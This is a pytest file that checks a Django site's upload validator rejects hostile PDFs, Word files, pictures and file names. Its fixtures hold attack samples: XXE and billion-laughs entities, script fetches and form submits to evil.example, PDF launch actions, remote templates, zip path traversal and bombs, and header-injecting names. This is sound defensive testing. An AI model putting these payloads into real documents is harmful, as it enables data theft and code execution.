"""Hostile and unsuitable files: each refused with the message that says what is wrong, in both languages; nothing is run."""

import io
import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.conf import settings as site
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from pytest_django import Settings

from foundation.bilingual.languages import speaking
from foundation.files.documents import child
from foundation.files.documents.judging import REFUSALS, judge, refusal
from foundation.files.models import Picture
from foundation.files.names import clean_name
from foundation.files.services import add_picture, clean_picture
from tests.files.making import (
    flat_png,
    paragraph,
    pdf_bytes,
    pdf_with,
    photograph,
    relations,
    word,
    zipped,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><w:document>&j;</w:document>"
)
FETCHED = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'


def action(kind: str, **more: str) -> DictionaryObject:
    named = {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **named})


def starting(kind: str, **more: str) -> bytes:
    """A PDF that does something when it is opened."""

    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action(kind, **more)

    return pdf_with(change)


def chained() -> bytes:
    """A PDF whose script waits behind a harmless action, on a page."""

    def change(writer: PdfWriter) -> None:
        harmless = action("/URI", URI="https://example.org")
        harmless[NameObject("/Next")] = ArrayObject([action("/JavaScript", JS="app.alert(1)")])
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): harmless})

    return pdf_with(change)


def locked() -> bytes:
    return pdf_with(lambda writer: writer.encrypt("cyfrinair", algorithm="RC4-128"))


def bomb() -> bytes:
    return word(parts={"word/media/a.xml": b"\0" * (60 * 1024 * 1024)})


def many() -> bytes:
    return word(parts={f"word/{number}.bin": b"" for number in range(2500)})


def ciphered() -> bytes:
    """A .docx whose parts are marked as encrypted, as a zip can."""
    data = bytearray(word())
    for at in range(len(data)):
        if data[at : at + 4] == b"PK\x01\x02":
            data[at + 8] |= 1
    return bytes(data)


def fetching(kind: str, target: str) -> bytes:
    return word(parts={"word/_rels/document.xml.rels": relations((kind, target, "External"))})


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
#: What it is → the file, and the code of its refusal as a document. None: it may come in.
DOCUMENTS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "an honest PDF": (pdf_bytes, None),
    "an honest Word file": (word, None),
    "nothing at all": (lambda: b"", "empty"),
    "a web page": (lambda: HTML, "type"),
    "a drawing with a script": (lambda: SVG, "type"),
    "a picture": (photograph, "type"),
    "a picture that is a script": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "type"),
    "rich text": (lambda: rb"{\rtf1 hello}", "type"),
    "a programme": (lambda: b"MZ" + bytes(200), "type"),
    "a web page that is a PDF further down": (lambda: HTML + pdf_bytes(), "damaged"),
    "a PDF that is an archive further down": (lambda: pdf_bytes() + zipped({"a.html": HTML}), "active"),
    "a PDF that ends early": (lambda: pdf_bytes()[:500], "damaged"),
    "a PDF in name only": (lambda: b"%PDF-1.7\n" + bytes(600) + b"%%EOF", "damaged"),
    "a PDF under a password": (locked, "password"),
    "a PDF with a script at its start": (lambda: starting("/JavaScript", JS="app.alert(1)"), "active"),
    "a PDF that starts a programme": (lambda: starting("/Launch", F="/bin/sh"), "active"),
    "a PDF that opens another file": (lambda: starting("/GoToR", F="//evil.example/a.pdf"), "active"),
    "a PDF that sends what is filled in": (lambda: starting("/SubmitForm", F="https://evil.example"), "active"),
    "a PDF with a script behind a link": (chained, "active"),
    "a PDF with a file in it": (lambda: pdf_with(lambda made: made.add_attachment("a.exe", b"MZ")), "active"),
    "a PDF with its own form": (
        lambda: pdf_with(
            lambda made: made.root_object.update(
                {NameObject("/AcroForm"): DictionaryObject({NameObject("/XFA"): TextStringObject("<x/>")})}
            )
        ),
        "active",
    ),
    "a PDF of too many pages": (lambda: pdf_bytes(*["x"] * 7), "too-long"),
    "an old Word file": (lambda: OLE + "WordDocument".encode("utf-16-le"), "old-word"),
    "an old spreadsheet": (lambda: OLE + "Workbook".encode("utf-16-le"), "type"),
    "a Word file under a password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    "a Word file with ciphered parts": (ciphered, "password"),
    "a Word file with macros": (lambda: word(parts={"word/vbaProject.bin": OLE}), "macros"),
    "a Word file for macros": (lambda: word(main_type=MACROS), "macros"),
    "a Word file with another file in it": (lambda: word(parts={"word/embeddings/oleObject1.bin": OLE}), "active"),
    "a Word file with a control": (lambda: word(parts={"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "a Word file with a template elsewhere": (
        lambda: fetching("attachedTemplate", "https://evil.example/a.dotm"), "active"),
    "a Word file with a picture elsewhere": (lambda: fetching("image", "https://evil.example/a.png"), "active"),
    "a Word file with a frame elsewhere": (lambda: fetching("frame", r"\\evil.example\a"), "active"),
    "a Word file that laughs": (lambda: word(parts={"word/document.xml": LAUGHS}), "damaged"),
    "a Word file that reads the disk": (lambda: word(parts={"word/document.xml": FETCHED}), "damaged"),
    "a Word file that is no XML": (lambda: word(parts={"word/document.xml": "<w:document"}), "damaged"),
    "a Word file that ends early": (lambda: word()[:700], "damaged"),
    "a Word file that climbs out": (lambda: word(parts={"../../etc/cron.d/a": b"x"}), "damaged"),
    "a Word file that bursts": (bomb, "too-long"),
    "a Word file of very many parts": (many, "too-long"),
    "a Word file of very many words": (lambda: word(paragraph("gair " * 3000)), "too-long"),
    "a spreadsheet": (
        lambda: zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": relations(("officeDocument", "xl/a.xml", ""))}),
        "type",
    ),
    "an archive": (lambda: zipped({"a.html": HTML}), "type"),
}  # fmt: skip


@pytest.fixture
def here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Documents are taken apart in this process, which is quicker for so many; others go through the real one."""

    def run(_command: list[str], *, input: bytes, **_options: Any) -> subprocess.CompletedProcess[bytes]:  # noqa: A002
        line, _newline, data = input.partition(b"\n")
        said, copy = child.answer(json.loads(line), data)
        return subprocess.CompletedProcess([], 0, json.dumps(said).encode() + b"\n" + copy, b"")

    monkeypatch.setattr("foundation.files.documents.judging.subprocess.run", run)


def test_every_hostile_document_is_refused_with_its_own_message(
    here: None, settings: Settings, tell: Callable[[str], None]
) -> None:
    settings.DOCUMENT_MAX_PAGES, settings.DOCUMENT_MAX_CHARACTERS = 5, 12_000
    found: dict[str, str | None] = {}
    for name, (make, _code) in DOCUMENTS.items():
        data = make()
        try:
            judge(io.BytesIO(data), size=len(data))
            found[name] = None
        except ValidationError as error:
            found[name] = error.code
    assert found == {name: code for name, (_make, code) in DOCUMENTS.items()}
    refused = {code for _make, code in DOCUMENTS.values()}
    assert refused == {*REFUSALS, None} - {"too-big", "not-copied", "not-word"}
    tell(f"{len(found)} documents tried, {sum(code is not None for code in found.values())} refused")


def test_a_document_larger_than_the_limit_is_not_even_read(settings: Settings) -> None:
    settings.FILE_MAX_BYTES = 3 * 1024 * 1024

    class Unread(io.BytesIO):
        def read(self, *_size: Any) -> bytes:
            raise AssertionError

    with pytest.raises(ValidationError) as refused:
        judge(Unread(), size=settings.FILE_MAX_BYTES + 1)
    assert refused.value.messages == ["The document is larger than 3 MB. Choose a smaller one."]


def test_every_refusal_has_words_of_its_own_in_both_languages() -> None:
    said: dict[str, list[str]] = {"cy": [], "en": []}
    for language, sentences in said.items():
        with speaking(language):
            sentences += [refusal(code).messages[0] for code in REFUSALS]
    assert [len(set(sentences)) for sentences in said.values()] == [len(REFUSALS)] * 2
    assert all("%" not in sentence for sentences in said.values() for sentence in sentences)


def test_a_document_that_takes_too_long_or_kills_its_reader_is_refused(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = word()

    def slow(*_args: Any, **_kwargs: Any) -> Any:
        raise subprocess.TimeoutExpired("child", 1)

    def died(code: int) -> Any:
        return lambda *_args, **_kwargs: subprocess.CompletedProcess([], code, b"", b"")

    for answer, code in ((slow, "too-long"), (died(-9), "too-long"), (died(1), "damaged")):
        monkeypatch.setattr("foundation.files.documents.judging.subprocess.run", answer)
        with pytest.raises(ValidationError) as refused:
            judge(io.BytesIO(data), size=len(data))
        assert refused.value.code == code


def test_the_reader_has_little_time_and_writes_nothing(tmp_path: Any) -> None:
    """The limits are those of the process itself: a loop ends, a file is not written, much memory is not given."""
    tries = {
        "while True: pass": -9,  # more than its second
        f"open({str(tmp_path / 'a')!r}, 'w').write('x' * 9999)": -25,  # SIGXFSZ
        "bytearray(2_000_000_000)": 1,
    }
    found = {}
    for what in tries:
        code = (
            "import signal\nfrom foundation.files.documents.child import bound\n"
            f"signal.signal(signal.SIGXFSZ, signal.SIG_DFL)\nbound(1, 500_000_000)\n{what}"
        )
        done = subprocess.run([sys.executable, "-c", code], cwd=site.BASE_DIR, capture_output=True, check=False)
        found[what] = done.returncode
    assert found == tries


#: What it is → the file, and the code of its refusal as a picture.
PICTURES: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "an honest photograph": (photograph, None),
    "nothing at all": (lambda: b"", "empty"),
    "a web page called .jpg": (lambda: HTML, "not-an-image"),
    "a drawing with a script": (lambda: SVG, "not-an-image"),
    "a picture that is a script": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "not-an-image"),
    "a PDF": (pdf_bytes, "not-an-image"),
    "an archive": (lambda: zipped({"a": b"a"}), "not-an-image"),
    "a photograph that ends early": (lambda: photograph()[:1200], "broken"),
    "a picture of ten thousand million pixels": (lambda: flat_png(100_000), "too-many-pixels"),
    "a picture just over the limit": (lambda: flat_png(7_100), "too-many-pixels"),
}


def test_every_hostile_picture_is_refused_with_its_own_message() -> None:
    found: dict[str, str | None] = {}
    for name, (make, _code) in PICTURES.items():
        data = make()
        try:
            clean_picture(io.BytesIO(data), size=len(data))
            found[name] = None
        except ValidationError as error:
            found[name] = error.code
    assert found == {name: code for name, (_make, code) in PICTURES.items()}


@pytest.mark.django_db
def test_a_picture_that_is_something_else_too_comes_in_as_a_picture_only() -> None:
    data = photograph() + HTML + zipped({"a.html": HTML})
    assert zipfile.is_zipfile(io.BytesIO(data))
    add_picture(io.BytesIO(data), size=len(data))
    with Picture.objects.get().full.open("rb") as opened:
        kept = opened.read()
    assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert b"script" not in kept


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("cynllun.pdf", "cynllun.pdf"),
        ("Cynllun gwella.PDF", "Cynllun gwella.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        (r"C:\Users\Pennaeth\cynllun.pdf", "cynllun.pdf"),
        ("cynllun\r\nSet-Cookie: a=b\x00\x07.pdf", "cynllun Set-Cookie_ a=b.pdf"),
        ("cynllun\u202efdp.exe", "cynllunfdp.exe.pdf"),
        ("\u200b\u2066cyn\u2069llun\ufeff.pdf", "cynllun.pdf"),
        ("cynllun.docx", "cynllun.docx.pdf"),
        ('a"b<c>|d?.pdf', "a_b_c__d_.pdf"),
        (f"{'ŵ' * 300}.pdf", f"{'ŵ' * 96}.pdf"),
        ("...", "document.pdf"),
        ("", "document.pdf"),
    ],
)
def test_a_name_says_what_can_be_seen(name: str, kept: str) -> None:
    assert clean_name(name, "pdf") == kept
